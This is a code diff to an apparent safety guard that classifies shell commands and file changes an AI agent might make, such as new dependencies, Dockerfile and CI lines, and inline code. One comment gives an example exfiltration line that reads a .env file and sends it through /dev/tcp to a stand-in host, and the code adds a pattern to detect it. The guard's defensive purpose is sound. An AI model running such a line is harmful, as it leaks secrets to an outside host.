@@ -3037,9 +3037,10 @@ def _stdin_program(cmd: _Cmd, verdict: _V, ctx: _Ctx) -> _V:
         if code is None or not (literal or ("$" not in code and "\\" not in code
                                             and "`" not in code)):
             # Expanded before Python reads it: never proven, still read for intent.
-            return _code_intents(verdict, body, "x.py")
+            return _code_targets(_code_intents(verdict, body, "x.py"), body)
         proven = _python_verdict(name or "python3", code, verdict.why[2], "stdin", verdict)
-        return proven if proven.mut == "read" else _code_intents(proven, code, "x.py")
+        return proven if proven.mut == "read" else _code_targets(
+            _code_intents(proven, code, "x.py"), code)
     if name in _STDIN_SHELLS and _stdin_body(cmd) is not None \
             and all(w.static and w.text in ("-s", "-e", "-x", "-u", "-eu", "-ex", "-eux", "-")
                     for w in cmd.words[1:]):
@@ -3052,7 +3053,7 @@ def _stdin_program(cmd: _Cmd, verdict: _V, ctx: _Ctx) -> _V:
         return script
     lang = "node" if name == "bun" else _INTERPRETERS.get(name or "")
     if lang is not None:
-        _code_intents(verdict, body, _INLINE_CODE[lang][0])
+        _code_targets(_code_intents(verdict, body, _INLINE_CODE[lang][0]), body)
     return verdict
 
 
@@ -3222,6 +3223,11 @@ def _manifest_by_name(cmd: _Cmd, program_writes: bool) -> bool:
 
 def _redir_verdict(op: str, target: Optional[_W]) -> _V:
     kind = op.lstrip("0123456789")
+    if kind == "<" and target is not None and not target.static \
+            and ("/dev/tcp/" in target.text or "/dev/udp/" in target.text):
+        # bash connects to the host it names: one built from an expansion
+        # carries data out (`< /dev/tcp/$(cat .env).example.com/80`).
+        return _unknown("network_data_unproven")
     if target is None or kind in ("<", "<<<"):
         return _an_read()
     if kind in ("<&", ">&"):
@@ -3685,6 +3691,15 @@ def _base64(name: str, args: List[_W], ctx: _Ctx) -> _V:
             if any(ch not in "dDiwbh0123456789" for ch in t[1:]):
                 return _unknown("shell_command_unproven", "option", name, t)
     return _an_read()
+
+
+def _sqlite(name: str, args: List[_W], ctx: _Ctx) -> _V:
+    """sqlite3 DB [SQL...] (and -cmd SQL): it may change the database, never
+    proven; its SQL is read for hashing (`select sha1(x)`) like any code."""
+    if _version_only(name, args, ctx).mut == "read":
+        return _an_read()
+    v = _unknown("shell_command_unproven", "unlisted", name)
+    return _code_intents(v, " ".join(w.text for w in args), "x.sql")
 
 
 def _lsof(name: str, args: List[_W], ctx: _Ctx) -> _V:
@@ -5758,8 +5773,79 @@ def _interp(lang: str) -> Callable[[str, List[_W], _Ctx], _V]:
                 v = _write()
         # Every argument is read for intent: `perl -MDigest::SHA -e ...` names
         # its module outside the code, and arguments after it reach the code.
-        return _code_intents(v, " ".join(texts), path)
+        return _code_targets(_code_intents(v, " ".join(texts), path),
+                             " ".join(texts) if code.static else None)
     return handler
+
+
+def _looks_like_path(text: str) -> bool:
+    """A single token that a file tool would take for a path: it has a
+    separator, starts with `~`/`.`, or is a file name with an extension."""
+    if not text or len(text) > 4096 or "\n" in text or text != text.strip():
+        return False
+    if " " in text or "\t" in text:
+        return False
+    if text.startswith(("~", ".", "/", "file:")) or "/" in text or "\\" in text:
+        return True
+    stem, dot, ext = text.rpartition(".")
+    return bool(dot and stem and 0 < len(ext) <= 8 and ext.isalnum())
+
+
+_CODE_COMMAND_LIMIT = 200
+
+
+def _code_commands(code: str) -> Tuple[List[str], List[str]]:
+    """(command lines, paths) a piece of code spells out: every string literal
+    holding a blank, and every bracketed list of string literals joined by
+    blanks; and the literals that read like paths."""
+    if len(code) > _MAX_COMMAND:
+        return [], []
+    literal = _an_rx("code_literal", r"'((?:[^'\\\n]|\\.){1,2000})'|\"((?:[^\"\\\n]|\\.){1,2000})\"")
+    found: List[str] = []
+    paths: List[str] = []
+    for match in literal.finditer(code):
+        text = match.group(1) if match.group(1) is not None else match.group(2)
+        if " " in text.strip():
+            found.append(text)
+        elif _looks_like_path(text) and len(paths) < _CODE_COMMAND_LIMIT:
+            paths.append(text)
+        if len(found) >= _CODE_COMMAND_LIMIT:
+            return found, paths
+    for match in _an_rx("code_argv", r"\[([^\[\]\n]{1,4000})\]").finditer(code):
+        words = [m.group(1) if m.group(1) is not None else m.group(2)
+                 for m in literal.finditer(match.group(1))]
+        if len(words) >= 2:
+            import shlex
+            found.append(" ".join(shlex.quote(w) for w in words))
+        if len(found) >= _CODE_COMMAND_LIMIT:
+            break
+    return found, paths
+
+
+# Code that finds its files at run time: the home folder, the environment,
+# a listing or a glob.  What it writes is a target nobody can name.
+_CODE_PLACES = ("environ", "getenv", "process.env", "env[", "$env", "home(", "homedir",
+                "expanduser", "glob", "walk(", "listdir", "scandir", "readdir", "rmtree",
+                "xdg_", "appdata", "sts_home")
+
+
+def _code_targets(v: _V, code: Optional[str]) -> _V:
+    """Inline code not proven read may write any file it names: the literals
+    that read like paths become its possible targets (self-protection judges
+    them, as for a tool that runs code), and code that finds its files at
+    run time, or code that is itself an expansion, writes to an unknown one."""
+    if v.mut == "read":
+        return v
+    if code is None:
+        v.opaque = True
+        return v
+    _, paths = _code_commands(code)
+    for found in paths:
+        v.add(found)
+    low = code.lower()
+    if any(place in low for place in _CODE_PLACES):
+        v.opaque = True
+    return v
 
 
 # ---- Python inline code proven read-only with `ast` -------------------------
@@ -7978,7 +8064,7 @@ _PROGRAMS.update({
     "awk": _awk, "gawk": _awk, "mawk": _awk, "nawk": _awk,
     "sort": _spec_program(_SORT_SPEC), "uniq": _UNIQ, "tree": _TREE, "xxd": _XXD, "file": _FILE,
     "nm": _inert_except("plugin"), "diff3": _inert_except("diff-program"),
-    "tee": _tee, "stat": _stat, "base64": _base64, "lsof": _lsof, "tput": _tput, "cd": _cd, "chdir": _cd, "pushd": _pushd, "popd": _popd, "dirs": _dirs,
+    "tee": _tee, "stat": _stat, "base64": _base64, "lsof": _lsof, "sqlite3": _sqlite, "tput": _tput, "cd": _cd, "chdir": _cd, "pushd": _pushd, "popd": _popd, "dirs": _dirs,
     "noglob": _w_command, "nocorrect": _w_command, "-": _w_command, "printf": _printf, "set": _set, "read": _read, "test": _test,
     "[": _test, "jobs": _jobs, "wait": _wait, "date": _date, "hostname": _hostname,
     "less": _pager, "more": _pager, "most": _pager, "man": _pager, "vi": _pager, "vim": _pager,
@@ -11007,6 +11093,12 @@ _MANIFEST_NAMES = {
     ".pnpmfile.cjs": "registry", "pip.conf": "registry", "pip.ini": "registry",
     ".pypirc": "registry", "bunfig.toml": "registry", ".condarc": "registry",
     "settings.xml": "registry",
+    # Deno's import maps; images, submodules, CI actions and hooks: each line
+    # that names one brings in code all the same (read by _line_declarations)
+    "import_map.json": "npm", "importmap.json": "npm",
+    "dockerfile": "image", "containerfile": "image", ".gitmodules": "submodule",
+    ".pre-commit-config.yaml": "hooks", ".pre-commit-config.yml": "hooks",
+    "action.yml": "actions", "action.yaml": "actions",
 }
 _MANIFEST_SUFFIXES = (
     ((".csproj", ".fsproj", ".vbproj", ".nuspec", ".props"), "csproj"),
@@ -11038,6 +11130,11 @@ def manifest_kind(path: Optional[str]) -> Optional[str]:
         return "requirements"
     if base.startswith(("environment", "requirements")) and base.endswith((".yml", ".yaml")):
         return "yaml"   # environment-dev.yml, requirements.yml (Ansible roles)
+    if base.startswith(("dockerfile.", "containerfile.")) or base.endswith(".dockerfile"):
+        return "image"
+    if parent == "workflows" and base.endswith((".yml", ".yaml")) \
+            and "/.github/workflows/" in "/" + norm.lower():
+        return "actions"
     return None
 
 
@@ -11986,6 +12083,98 @@ def _lock_change(old_text: Optional[str], new_text: str) -> bool:
     return bool(entries(new_text) - entries(old_text or ""))
 
 
+def _joined_lines(text: Optional[str]) -> List[str]:
+    """Lines with `\\`-continuations joined and blanks squeezed."""
+    out: List[str] = []
+    pending = ""
+    for line in (text or "").splitlines():
+        if line.rstrip().endswith("\\"):
+            pending += line.rstrip()[:-1] + " "
+            continue
+        out.append(" ".join((pending + line).split()))
+        pending = ""
+    if pending:
+        out.append(" ".join(pending.split()))
+    return [line for line in out if line]
+
+
+def _image_line(line: str) -> bool:
+    """A Dockerfile line that brings in code: a base image, a remote ADD,
+    a RUN whose command adds a package."""
+    word, _, rest = line.partition(" ")
+    word = word.upper()
+    if word == "FROM" or (word == "ADD" and "://" in rest) or (
+            word == "COPY" and "--from=" in rest):
+        return True
+    if word != "RUN":
+        return False
+    while rest.startswith("--"):     # RUN --mount=... --network=...
+        rest = rest.partition(" ")[2]
+    if rest.startswith("["):         # exec form: ["pip", "install", "x"]
+        try:
+            rest = " ".join(json.loads(rest))
+        except (ValueError, TypeError):
+            return True
+    return analyze_shell(rest).dependency_intent
+
+
+# A line that declares code from elsewhere, per kind: kind -> test of one
+# added line (already joined and squeezed).
+_LINE_DECLARATIONS: Dict[str, Callable[[str], bool]] = {
+    "image": _image_line,
+    "submodule": lambda line: line.lower().startswith(("url", "branch", "[submodule")),
+    "hooks": lambda line: line.lstrip("- ").startswith(("repo:", "rev:", "additional_dependencies")),
+    "actions": lambda line: line.lstrip("- ").startswith("uses:")
+    or line.lstrip("- ").startswith("image:"),
+}
+
+
+def _line_declarations(kind: str, old_text: Optional[str], new_text: str) -> bool:
+    """Whether the new text adds a line of this kind that the old did not have."""
+    test = _LINE_DECLARATIONS[kind]
+    before = set(_joined_lines(old_text))
+    return any(line not in before and test(line) for line in _joined_lines(new_text))
+
+
+# Code files that declare dependencies in the code itself: a Python script's
+# inline metadata (`# /// script` ... `dependencies = [...]`), and JS/TS
+# imports of a registry or a URL (`npm:x`, `jsr:@std/x`, `https://esm.sh/x`),
+# which Deno and Bun fetch.
+_URL_IMPORT = (r"""(?:\bfrom|\bimport|\brequire|\bimport\s*\()\s*\(?\s*['"`]"""
+               r"""((?:npm|jsr|https?):[^'"`\s]{1,2000})['"`]""")
+
+
+def _code_declares(path: Optional[str], old_text: Optional[str], new_text: str) -> bool:
+    if not isinstance(path, str):
+        return False
+    low = path.lower()
+    if low.endswith((".py", ".pyw")) and "# /// script" in new_text:
+        return _script_deps(new_text) - _script_deps(old_text or "") != set()
+    if low.endswith((".js", ".mjs", ".cjs", ".jsx", ".ts", ".mts", ".cts", ".tsx")) and (
+            "npm:" in new_text or "jsr:" in new_text or "http" in new_text):
+        rx = _an_rx("url-import", _URL_IMPORT)
+        return bool(set(rx.findall(new_text)) - set(rx.findall(old_text or "")))
+    return False
+
+
+def _script_deps(text: str) -> set:
+    """The requirement strings of a `# /// script` block (and its python version)."""
+    found: set = set()
+    inside = False
+    for line in text.splitlines():
+        stripped = line.strip()
+        if stripped == "# /// script":
+            inside = True
+        elif stripped == "# ///":
+            inside = False
+        elif inside:
+            body = stripped.lstrip("#").strip()
+            found.update(_an_rx("quoted", r"""['"]([^'"]+)['"]""").findall(body))
+            if body.startswith(("[[tool.uv.index]]", "url", "index")):
+                found.add(body)
+    return found
+
+
 def dependency_intent_in_change(path: Optional[str], old_text: Optional[str],
                                 new_text: Optional[str]) -> bool:
     """True when a manifest change adds a dependency or changes one.
@@ -11999,12 +12188,16 @@ def dependency_intent_in_change(path: Optional[str], old_text: Optional[str],
     dependency and reformatting do not.
     """
     kind = manifest_kind(path)
-    if kind is None or not isinstance(new_text, str):
+    if not isinstance(new_text, str):
         return False
+    if kind is None:
+        return _code_declares(path, old_text, new_text)
     if len(new_text) > _MAX_MANIFEST or (old_text and len(old_text) > _MAX_MANIFEST):
         return True   # too large to compare: assume the worst
     if kind == "lock":
         return _lock_change(old_text, new_text)
+    if kind in _LINE_DECLARATIONS:
+        return _line_declarations(kind, old_text, new_text)
 
     new = _manifest_keys(kind, new_text)
     old = _manifest_keys(kind, old_text) if isinstance(old_text, str) else {}
@@ -16802,19 +16995,6 @@ _PATH_KEYS = frozenset((
 _PATH_ARG_LIMIT = 64
 
 
-def _looks_like_path(text: str) -> bool:
-    """A single token that a file tool would take for a path: it has a
-    separator, starts with `~`/`.`, or is a file name with an extension."""
-    if not text or len(text) > 4096 or "\n" in text or text != text.strip():
-        return False
-    if " " in text or "\t" in text:
-        return False
-    if text.startswith(("~", ".", "/", "file:")) or "/" in text or "\\" in text:
-        return True
-    stem, dot, ext = text.rpartition(".")
-    return bool(dot and stem and 0 < len(ext) <= 8 and ext.isalnum())
-
-
 def path_arguments(tool_input: Any) -> Tuple[List[str], bool]:
     """(paths, complete) for a tool the guard does not know: every argument
     that names a file, at any depth and in every list, is a possible target.
@@ -16929,37 +17109,6 @@ def code_action(name: str, language: str, code: Any) -> dict:
     # the same code given to the interpreter in the shell).
     action["shellWriteTargets"] = list(dict.fromkeys(action["shellWriteTargets"] + paths))
     return action
-
-
-_CODE_COMMAND_LIMIT = 200
-
-
-def _code_commands(code: str) -> Tuple[List[str], List[str]]:
-    """(command lines, paths) a piece of code spells out: every string literal
-    holding a blank, and every bracketed list of string literals joined by
-    blanks; and the literals that read like paths."""
-    if len(code) > _MAX_COMMAND:
-        return [], []
-    literal = _an_rx("code_literal", r"'((?:[^'\\\n]|\\.){1,2000})'|\"((?:[^\"\\\n]|\\.){1,2000})\"")
-    found: List[str] = []
-    paths: List[str] = []
-    for match in literal.finditer(code):
-        text = match.group(1) if match.group(1) is not None else match.group(2)
-        if " " in text.strip():
-            found.append(text)
-        elif _looks_like_path(text) and len(paths) < _CODE_COMMAND_LIMIT:
-            paths.append(text)
-        if len(found) >= _CODE_COMMAND_LIMIT:
-            return found, paths
-    for match in _an_rx("code_argv", r"\[([^\[\]\n]{1,4000})\]").finditer(code):
-        words = [m.group(1) if m.group(1) is not None else m.group(2)
-                 for m in literal.finditer(match.group(1))]
-        if len(words) >= 2:
-            import shlex
-            found.append(" ".join(shlex.quote(w) for w in words))
-        if len(found) >= _CODE_COMMAND_LIMIT:
-            break
-    return found, paths
 
 
 def argv_action(name: str, program: Any, args: Any, env: Any = None) -> dict:
